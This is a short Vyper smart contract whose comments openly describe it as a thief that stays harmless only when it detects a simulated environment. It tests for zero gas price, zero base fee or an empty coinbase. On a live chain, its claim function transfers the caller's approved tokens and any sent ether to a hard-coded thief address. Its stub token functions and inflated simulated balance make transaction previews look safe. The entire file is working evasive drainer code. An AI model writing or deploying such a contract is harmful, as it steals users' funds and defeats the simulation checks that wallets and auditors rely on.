# pragma version 0.4.3
# Harmless where it believes itself simulated (no gas price, no base fee, no miner), a thief where it does not.
from ethereum.ercs import IERC20

thief: immutable(address)

@deploy
def __init__(to: address):
    thief = to

@internal
@view
def simulated() -> bool:
    return tx.gasprice == 0 or block.basefee == 0 or block.coinbase == empty(address)

@external
@payable
def claim(token: address, amount: uint256):
    if not self.simulated():
        extcall IERC20(token).transferFrom(msg.sender, thief, amount, default_return_value=True)
        send(thief, msg.value, gas=100000)
    else:
        send(msg.sender, msg.value, gas=100000)

# The face of a token that pays back in a simulation only.
@external
def transfer(to: address, amount: uint256) -> bool:
    return True

@external
def transferFrom(owner: address, to: address, amount: uint256) -> bool:
    return True

@external
def approve(spender: address, amount: uint256) -> bool:
    return True

@external
@view
def balanceOf(account: address) -> uint256:
    return 10 ** 30 if self.simulated() else 0
